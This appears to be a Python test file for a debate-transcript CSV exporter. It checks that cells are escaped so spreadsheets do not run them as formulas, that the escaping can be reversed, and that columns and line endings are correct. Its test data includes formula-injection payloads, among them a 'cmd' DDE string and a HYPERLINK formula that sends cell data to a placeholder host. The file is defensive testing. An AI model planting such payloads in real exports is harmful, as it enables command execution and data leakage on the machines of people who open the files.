"""CSV: no cell is a formula, and the rule that keeps it so can be reversed."""

from hypothesis import given
from hypothesis import strategies as st

from fishbowl.debate.evolve import fold
from fishbowl.transcript import Version
from fishbowl.transcript.csv import COLUMNS, plain_cell, safe_cell
from tests.transcript.invented import invented_definition, invented_records, people_saying
from tests.transcript.readers import csv_rows, written

SIGNS = "=+-@\t\r\n＝＋－＠"
FORMULAS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://x.example?"&A1)',
    "'=1+1",
    "''=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "- a list\n- of things",
    'a "quoted", comma; semicolon\nand a line',
]


def test_no_cell_is_a_formula() -> None:
    """No cell begins with a sign that a spreadsheet takes for a formula, in no column and neither version."""
    definition = invented_definition(slug="-slug", speakers=(), title="=title")
    for version in Version:
        rows = list(csv_rows(written("csv", people_saying(FORMULAS, definition), version)))
        assert [plain_cell(row["text"]) for row in rows] == FORMULAS
        for row in rows:
            assert not [cell for cell in row.values() if cell[:1] and cell[0] in SIGNS]


@given(st.text(st.one_of(st.characters(), st.sampled_from(SIGNS + "'"))))
def test_the_rule_is_reversible(value: str) -> None:
    """Every value comes back from its safe cell, and one that is no formula is its own."""
    cell = safe_cell(value)
    assert cell[:1] == "" or cell[0] not in SIGNS
    assert plain_cell(cell) == value
    assert cell in (value, f"'{value}")


def test_rows() -> None:
    """A row has every column, says of which record it is, and repeats what the log says of a contribution."""
    records = invented_records(200)
    stated = fold(records).contributions
    rows = list(csv_rows(written("csv", records)))
    assert tuple(rows[0]) == COLUMNS
    assert {row["as_of_seq"] for row in rows} == {str(records[-1].seq)}
    for row in rows:
        contribution = stated[int(row["contribution"])]
        assert row["path"] == contribution.path
        assert row["reply_to"] == str(contribution.reply_to or "")
        assert row["questions"] == " ".join(str(tag.question) for tag in contribution.tags)
        assert row["sources"] == " ".join(tag.source for tag in contribution.tags)
        assert row["status"] == contribution.status
        assert row["endorsements"] == str(len(contribution.endorsed_by))


def test_acts_are_the_organisers() -> None:
    """What moderation did stands in a column of the organiser's version alone."""
    records = invented_records(200)
    assert "acts" not in next(csv_rows(written("csv", records)))
    acts = [row["acts"] for row in csv_rows(written("csv", records, Version.ORGANISER)) if row["acts"]]
    assert any("hidden 2026-01-31T" in act and "seen by two of us" in act for act in acts)


def test_for_spreadsheets() -> None:
    """The file begins with a byte order mark, and its lines end as RFC 4180 has them."""
    file = written("csv", people_saying(["one line"]))
    assert file.startswith("\ufeffdebate,")
    assert file.count("\r\n") == file.count("\n") == 2
